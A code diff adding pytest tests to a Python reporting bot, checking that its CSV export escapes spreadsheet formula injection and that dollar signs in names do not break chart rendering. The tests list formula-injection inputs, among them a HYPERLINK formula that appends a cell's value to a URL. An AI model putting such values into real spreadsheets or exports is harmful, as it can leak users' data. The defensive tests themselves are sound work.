@@ -20,7 +20,7 @@ from zoneinfo import ZoneInfo
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
-from sqlalchemy import Date, DateTime, func, inspect, select, text
+from sqlalchemy import Date, DateTime, func, inspect, select, text, update
 
 from vcpbot.db import Database
 from vcpbot.db.base import Base
@@ -29,9 +29,11 @@ from vcpbot.db.kmtm import (
     Category,
     Dimension,
     FollowUp,
+    KmtmPeriod,
     KmtmRelease,
     Relation,
 )
+from vcpbot.db.network import Association
 from vcpbot.errors import Conflict, InvalidInput, NotAllowed, NotFound
 from vcpbot.services import kmtm, kmtm_chart, kmtm_report, network
 from vcpbot.services.disclosure import FEWER_THAN_K, SUPPRESSED, Cell, Rule, protect
@@ -1048,6 +1050,66 @@ async def test_every_later_table_shows_the_ledgers_numbers_for_released_periods(
         own = [r for r in rows if by_id[r.period_id] == period and r.dimension != "year"]
         assert own, f"{period} was shown but is not in the ledger"
         assert {_ledger_text(r.payload["total"], r.k) for r in own} == {total}
+
+
+# A spreadsheet runs a cell that starts with one of these as a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_NAMES = [
+    '=HYPERLINK("https://example.org/?"&A1,"Open")',
+    "+31 6 12345678",
+    "-1+2",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("name", FORMULA_NAMES)
+async def test_no_name_in_the_kmtm_export_can_run_as_a_formula(db: Database, name: str) -> None:
+    """A board names its association, the coordinator a period: whatever the name
+    starts with, the coordinator's spreadsheet shows it as text."""
+    ids = await _network(db)
+    await _past_period(db, 2025, {1001: 3, 1002: 3, 1003: 3})
+    period = " ".join(name.split())  # a period's name is tidied when it is created
+    async with db.sessions.begin() as session:
+        await session.execute(
+            update(Association).where(Association.id == ids[1001]).values(name=name)
+        )
+        await session.execute(update(KmtmPeriod).values(name=period))
+    for by in ("association", "category", "year"):
+        text_ = kmtm_report.export_csv(await _report(db, by, name=period), locale="nl")
+        cells = [cell for row in csv.reader(io.StringIO(text_)) for cell in row]
+        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], by
+        rows = list(csv.DictReader(io.StringIO(text_)))
+        assert {r["period"] for r in rows} == {"'" + period}
+        if by == "association":
+            assert "'" + name in {r["label"] for r in rows}
+
+
+async def test_a_board_names_its_association_as_a_formula_through_setup(db: Database) -> None:
+    await _network(db)
+    await _join(db, 1006, '=HYPERLINK("https://example.org","Klik")')
+    await _past_period(db, 2025, {1001: 3, 1002: 3, 1006: 3})
+    released = await _report(db, "association", name="KMTM 2025")
+    rows = list(csv.DictReader(io.StringIO(kmtm_report.export_csv(released, locale="nl"))))
+    assert '\'=HYPERLINK("https://example.org","Klik")' in {r["label"] for r in rows}
+
+
+@pytest.mark.parametrize("name", ["$\\frac{$", "Sigma $x_1$ Society", "100$ club"])
+async def test_a_name_with_dollar_signs_does_not_stop_the_chart(db: Database, name: str) -> None:
+    """Matplotlib reads "$...$" as a formula; a malformed one made drawing fail."""
+    ids = await _network(db)
+    await _past_period(db, 2025, {1001: 3, 1002: 3, 1003: 3})
+    await _past_period(db, 2026, {1001: 3, 1002: 3, 1003: 3})
+    async with db.sessions.begin() as session:
+        await session.execute(
+            update(Association).where(Association.id == ids[1001]).values(name=name)
+        )
+        await session.execute(
+            update(KmtmPeriod).where(KmtmPeriod.name == "KMTM 2025").values(name=name)
+        )
+    for by, period in (("association", "KMTM 2026"), ("year", "KMTM 2026"), ("category", name)):
+        _assert_png(render_png(await _report(db, by, name=period), locale="en"))
 
 
 @pytest.mark.parametrize("locale", ["nl", "en"])
